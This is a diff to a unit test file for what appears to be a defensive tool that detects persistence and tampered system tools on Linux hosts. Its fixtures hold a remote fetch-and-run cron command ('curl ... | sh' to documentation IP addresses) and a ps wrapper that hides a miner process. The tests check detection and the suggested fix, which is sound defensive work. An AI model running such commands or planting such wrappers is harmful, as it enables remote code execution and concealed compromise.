@@ -19,12 +19,14 @@ from tests.unit.snapshots import (
     service,
     snapshot,
     timer,
+    tool,
 )
 
 from davy.model.autostarts import Autostart, AutostartKind, Step
 from davy.model.facts import Account, Executable
 from davy.model.incidents import Role, Verdict
 from davy.model.snapshot import Snapshot
+from davy.model.tools import Tampering
 
 FETCH = "curl -fsSL http://192.0.2.7/x.sh | sh"
 
@@ -85,7 +87,7 @@ def test_an_entry_that_shares_a_file_with_a_guilty_one_is_of_its_incident_only_i
 
 def test_what_would_start_and_when_is_told_in_words() -> None:
     summary = incident_of(snapshot(cron(FETCH, schedule="@reboot", user="ada"))).summary
-    assert f"does not run now: {FETCH} (cron, @reboot, as ada)" in summary
+    assert f"does not run now: {FETCH} (cron, when the machine starts, as ada)" in summary
 
 
 def test_entries_of_a_package_are_nobodys_accomplices() -> None:
@@ -146,3 +148,35 @@ def test_a_mark_to_linger_is_guilty_only_if_all_of_its_users_units_are(all_guilt
     facts = msgspec.structs.replace(facts, accounts=(Account("ada", 1000, 1000, "/home/ada", "/bin/bash"),))
     found = {one.subject for one in autostarts(incident_of(facts))}
     assert found == ({unit.subject, mark.subject} if all_guilty else {unit.subject})
+
+
+WRAPPER = tool("/usr/bin/ps", Tampering.WRAPPED, text='#!/bin/sh\n/usr/bin/.ps "$@" | grep -v kdevtmpfsi\n')
+
+
+def test_a_wrapper_that_leaves_a_miner_out_is_its_hider_and_names_the_fix() -> None:
+    found = incident_of(snapshot(MINER, WRAPPER))
+    assert [(actor.path, actor.role) for actor in found.actors if actor.subject == WRAPPER.subject] == [
+        ("/usr/bin/ps", Role.HIDER)
+    ]
+    assert any("apt-get install --reinstall procps" in text for one in found.findings for text in one.evidence)
+
+
+def test_a_tool_that_was_tampered_with_is_put_with_the_one_gang_there_is_and_with_none_of_several() -> None:
+    renamed = tool("/usr/bin/curl", Tampering.RENAMED, renamed_to="/usr/bin/cur", package="curl")
+    one, other = cron(FETCH), cron("curl -fsSL http://198.51.100.9/x.sh | sh", user="ada")
+    found = incident_of(snapshot(one, renamed))
+    assert {actor.subject for actor in found.actors} == {one.subject, renamed.subject}
+    assert "; hidden by curl" in found.summary
+    several = judged(snapshot(one, other, renamed)).incidents
+    assert sorted(len(incident.actors) for incident in several) == [1, 1]
+
+
+def test_a_wrapper_that_leaves_out_whom_nobody_sees_is_an_incident_of_its_own() -> None:
+    found = incident_of(snapshot(tool("/usr/bin/ps", Tampering.WRAPPED, text="#!/bin/sh\n.ps | grep -v x1x2\n")))
+    assert (found.verdict, found.summary) == (Verdict.SUSPECT, "Perhaps something hides: ps")
+
+
+def test_tools_that_are_only_missing_or_shadowed_are_no_incident() -> None:
+    missing = [tool(f"/usr/bin/{name}", Tampering.MISSING) for name in ("ps", "top", "w", "pgrep")]
+    own = tool("/usr/local/bin/htop", Tampering.SHADOWED, package="htop")
+    assert judged(snapshot(*missing, own, tool("/usr/bin/chattr", Tampering.LOCKED))).verdict is Verdict.CLEAN
